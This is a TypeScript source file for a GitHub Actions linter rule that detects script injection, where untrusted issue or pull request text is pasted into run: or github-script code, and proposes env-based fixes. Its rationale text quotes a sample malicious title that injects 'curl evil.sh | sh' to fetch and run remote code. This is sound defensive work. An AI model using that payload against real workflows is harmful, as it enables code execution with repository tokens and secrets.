import { isScalar, type Node, type Scalar } from 'yaml';
import { privilegedTriggers } from '../../knowledge/untrusted-contexts';
import { type FixPlan, mapGet, type Rule, type RuleReport, scalarText, stepsOf, type StepView, type WorkflowFile } from '../../rule';
import { actionName, usesOf, withInput } from '../../security-sites';
import {
  admittedTriggers,
  envNameFor,
  envReference,
  filledUnder,
  locateInScalar,
  scopeOfStep,
  shellOf,
  type TaintedExpression,
  taintedExpressions,
  type TaintOrigin,
  workflowTriggers,
} from './support/untrusted-flow';
import { envWriteFix, lineStartOf } from './support/env-file-rewrite';
import { moveExpressionToEnv } from './support/expression-to-env';

/** Where a step evaluates text as code: a `run:` script or the `script:` input of actions/github-script. */
interface CodeSink {
  node: Node;
  text: string;
  kind: 'run' | 'github-script';
}

function codeSinkOf(step: StepView): CodeSink | undefined {
  const run = mapGet(step.node, 'run');
  const runText = scalarText(run);
  if (run && runText !== undefined) return { node: run, text: runText, kind: 'run' };
  const uses = usesOf(step.node);
  if (!uses || actionName(uses.ref) !== 'actions/github-script') return undefined;
  const script = withInput(step.node, 'script');
  const scriptText = scalarText(script);
  return script && scriptText !== undefined ? { node: script, text: scriptText, kind: 'github-script' } : undefined;
}

function describe(origin: TaintOrigin): string {
  if (origin.via) return `\`${origin.context}\` (set from attacker-controlled \`${origin.via}\`)`;
  if (origin.holds) return `\`${origin.context}\` with its attacker-controlled fields (such as \`${origin.holds}\`)`;
  return `attacker-controlled \`${origin.context}\``;
}

function remediationFor(file: WorkflowFile, step: StepView, sink: CodeSink, expression: TaintedExpression): string {
  const first = expression.origins[0];
  const envOnly = expression.origins.every((origin) => /^env\./i.test(origin.context));
  if (envOnly && first) {
    const name = first.context.slice('env.'.length);
    return sink.kind === 'run'
      ? `Read the variable in the script (${envReference(shellOf(file, step), name)}) instead of pasting its value with \`${expression.text}\`.`
      : `Read the variable in the script (\`process.env.${name}\`) instead of pasting its value with \`${expression.text}\`.`;
  }
  const name = envNameFor(first?.via ?? first?.context ?? 'value');
  const reference = sink.kind === 'run' ? envReference(shellOf(file, step), name) : `process.env.${name}`;
  return `Pass the value through the step's \`env:\` (\`${name}: ${expression.text}\`) and use ${reference} in the script, so it arrives as data and is never parsed as code.`;
}

/**
 * A `NAME=value` line of `$GITHUB_ENV` gets env-file-injection's rewrite, which also moves the expression into
 * `env:`: reading the variable there instead would still let a newline add variables, and that fix's edits are the
 * same for both findings, so they are applied together.
 */
function envWriteRewrite(file: WorkflowFile, step: StepView, script: Scalar, text: string, expression: TaintedExpression): { fix: FixPlan } | undefined {
  const lineStart = lineStartOf(text, expression.offset);
  const lineEnd = text.indexOf('\n', expression.offset);
  const count = (within: string): number => within.split(expression.text).length - 1;
  // The rewrite changes only its line: an occurrence elsewhere needs the usual fix.
  if (count(text) !== count(text.slice(lineStart, lineEnd < 0 ? undefined : lineEnd))) return undefined;
  const rewrite = envWriteFix(file, step, script, lineStart);
  return 'fix' in rewrite ? rewrite : undefined;
}

function fixFor(file: WorkflowFile, step: StepView, sink: CodeSink, expression: TaintedExpression): Pick<RuleReport, 'fix' | 'unfixable'> {
  if (!isScalar(sink.node)) return { unfixable: 'the script is not a plain YAML value' };
  const rewrite = sink.kind === 'run' ? envWriteRewrite(file, step, sink.node, sink.text, expression) : undefined;
  if (rewrite) return rewrite;
  const origin = expression.origins[0];
  const namedAfter = origin?.via ?? origin?.context ?? 'value';
  return { fix: moveExpressionToEnv({ step, script: sink.node, kind: sink.kind, expression: expression.text, namedAfter }) };
}

export const scriptInjectionRule: Rule = {
  id: 'script-injection',
  category: 'security',
  severity: 'high',
  confidence: 'high',
  appliesTo: ['workflow', 'action'],
  description:
    'Finds attacker-controlled text (issue and pull request titles and bodies, comments, branch names, commit messages) pasted with `${{ }}` into a `run:` script or an actions/github-script `script:`.',
  rationale:
    'GitHub replaces `${{ }}` expressions before the shell or Node.js sees the script, so the value becomes part of the code. Anyone who can open an issue or a pull request chooses these values: a title such as `a"; curl evil.sh | sh; echo "` runs their commands with the job\'s token and secrets. Under `pull_request_target`, `issue_comment`, `issues`, `discussion` and `workflow_run` those are the base repository\'s secrets and a token that can push, which is why the finding is critical there. The rule also follows env vars and step outputs that a workflow sets from such values in the same file; `inputs.*` and outputs of other jobs are not followed.',
  remediation:
    'Pass the value through the step\'s `env:` and refer to it as a quoted shell variable (`"$PR_TITLE"`, `$env:PR_TITLE` in PowerShell, `process.env.PR_TITLE` in github-script). The shell then treats it as data.',
  examples: {
    bad: `on:
  issues:
    types: [opened]
jobs:
  triage:
    runs-on: ubuntu-latest
    steps:
      - run: |
          echo "New issue: \${{ github.event.issue.title }}"
`,
    good: `on:
  issues:
    types: [opened]
jobs:
  triage:
    runs-on: ubuntu-latest
    steps:
      - env:
          ISSUE_TITLE: \${{ github.event.issue.title }}
        run: |
          echo "New issue: $ISSUE_TITLE"
`,
  },
  fixes: {
    safety: 'safe',
    description:
      'Moves the expression into the step\'s `env:` (reusing an entry with the same expression, else a new name such ' +
      'as `PR_TITLE` that nothing else uses) and reads the variable at every place the script pasted it: `"${PR_TITLE}"` ' +
      'in bash and sh (`${PR_TITLE}` inside double quotes), `$env:PR_TITLE` in PowerShell, `process.env.PR_TITLE` in ' +
      'github-script. Not offered in other shells, inside single-quoted PowerShell strings or literal here-documents, ' +
      'or where JavaScript pastes it as code. A bash or sh line `echo "NAME=value" >> "$GITHUB_ENV"` gets the ' +
      'env-file-injection rewrite instead (multi-line form with a random delimiter), since a variable read there could ' +
      'still add variables through a newline.',
  },
  check(ctx) {
    const triggers = workflowTriggers(ctx.file);
    for (const step of stepsOf(ctx.file)) {
      const sink = codeSinkOf(step);
      if (!sink) continue;
      const admitted = triggers && admittedTriggers(triggers, step.job?.node, step.node);
      for (const expression of taintedExpressions(sink.text, scopeOfStep(ctx.file, step))) {
        const origins = expression.origins.filter((origin) => filledUnder(origin, admitted));
        if (origins.length === 0) continue;
        const privileged = admitted && origins.some((origin) => privilegedTriggers.some((event) => admitted.has(event) && origin.events.has(event)));
        const sinkName = sink.kind === 'run' ? 'a `run:` script' : 'an actions/github-script `script:`';
        ctx.report({
          node: sink.node,
          range: locateInScalar(ctx.file, sink.node, sink.text, expression.offset, expression.text),
          message: `\`${expression.text}\` pastes ${origins.map(describe).join(' or ')} into ${sinkName}${privileged ? ' of a privileged workflow' : ''}.`,
          remediation: remediationFor(ctx.file, step, sink, { ...expression, origins }),
          ...(privileged ? { severity: 'critical' as const } : {}),
          ...(origins.every((origin) => origin.uncertain) ? { confidence: 'medium' as const } : {}),
          ...fixFor(ctx.file, step, sink, { ...expression, origins }),
        });
      }
    }
  },
};
